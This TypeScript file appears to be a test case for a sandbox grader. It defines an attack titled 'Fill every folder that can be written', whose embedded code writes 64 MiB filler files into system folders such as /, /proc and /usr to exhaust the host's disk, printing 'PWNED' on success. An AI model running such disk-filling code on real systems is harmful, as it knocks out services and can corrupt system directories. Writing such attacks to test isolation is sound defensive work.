import { type Attack, modelSource } from '#grader/attack/attack.ts'

export const attack: Attack = {
  number: 47,
  title: 'Fill every folder that can be written',
  intent: 'Fill the disk of the host.',
  kind: 'model',
  verdicts: ['scored'],
  source: modelSource({
    buildModel: `const fs = node('fs')
  for (const folder of ['/tmp', '/', '/dev', '/dev/shm', '/proc', '/lib', '/usr', '/var/tmp', '/run', '/home']) {
    let mebibytes = 0
    try {
      for (; mebibytes < 64; mebibytes++) fs.writeFileSync(folder + '/fill' + mebibytes, new Uint8Array(1 << 20).fill(1))
      console.log('PWNED no limit in ' + folder)
    } catch (error: any) {
      if (mebibytes > 0 && folder !== '/tmp') console.log('PWNED writes to ' + folder)
    }
  }`,
  }),
}
